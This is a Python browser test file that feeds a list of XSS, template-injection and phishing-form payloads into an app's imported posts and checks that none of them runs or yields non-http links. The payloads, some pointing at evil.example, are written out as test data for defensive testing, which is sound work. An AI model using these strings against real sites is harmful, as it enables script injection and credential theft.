"""Nothing that strangers write runs in our browser."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

from tests.browser.running import Visitor, running

CANARY = "document.title='OWNED'"
PAYLOADS = [
    f"<script>{CANARY}</script>",
    f'<img src=x onerror="{CANARY}">',
    f"<svg onload={CANARY}>",
    f'"><script>{CANARY}</script>',
    f"' onmouseover='{CANARY}' x='",
    f'<a href="javascript:{CANARY}">kettle</a>',
    f"javascript:{CANARY}",
    f'https://example.com/"onmouseover="{CANARY}"',
    f"<scr<script>ipt>{CANARY}</scr</script>ipt>",
    "{{7*7}} {% raw %} ${7*7} #{7*7} %s %(name)s",
    f"<style>@import 'http://evil.example/x.css'</style><base href='http://evil.example/'>{CANARY}",
    "<form action='http://evil.example/'><input name=password>",
    '=HYPERLINK("http://evil.example")',
    "\u202egnp.exe\u202c \u200b\ufeff\u2066hidden\u2069",
    "a\u0000b \ud800 c",
    "Z̸̧̛̤͓͈̞a̴͎͍l̷̢̠g̶̱͝o " * 50,
]


def hostile_rows() -> list[dict[str, Any]]:
    now = datetime.now(UTC).isoformat()
    return [
        {
            "id": f"h{n}",
            "text": f"Does the kettle work? {payload}",
            "title": payload,
            "author": payload[:60] or "x",
            "name": payload,
            "url": payload,
            "created_at": now,
            "inbound": True,
        }
        for n, payload in enumerate(PAYLOADS)
    ]


def test_no_word_of_a_stranger_runs_on_any_screen(browser: Any, tmp_path: Any) -> None:
    file = tmp_path / "hostile.jsonl"
    rows = [
        *hostile_rows(),
        {
            "id": "big",
            "text": "kettle? " + "x" * 1_000_000,
            "author": "big",
            "created_at": datetime.now(UTC).isoformat(),
            "inbound": True,
        },
    ]
    file.write_text("\n".join(json.dumps(row) for row in rows))
    with running() as goodword:
        goodword.command("import", "posts", str(file), "--json")
        visitor = Visitor(browser, goodword.address).signs_in(goodword.link())
        page = visitor.page
        hrefs = page.locator("[data-list] a.list-row").evaluate_all(
            "rows => rows.map(r => r.getAttribute('href'))"
        )
        assert len(hrefs) >= len(PAYLOADS) - 1
        words = ["/inbox/?view=all", "/people/", "/search/?q=kettle", "/search/?q=%3Cscript%3E", *hrefs]
        visitor.opens("/people/")
        words += page.locator("a.row").evaluate_all("rows => rows.map(r => r.getAttribute('href'))")
        for path in words:
            answer = page.goto(goodword.address + path)
            assert answer is not None
            assert answer.status == 200, path
            for spot in page.locator(".said-text, .list-row").all()[:3]:
                spot.hover(force=True)
            assert page.title() != "OWNED", path
            addresses = page.locator("a[href]").evaluate_all("links => links.map(a => a.protocol)")
            assert set(addresses) <= {"http:", "https:"}, path
        assert visitor.complaints == []
        visitor.context.close()
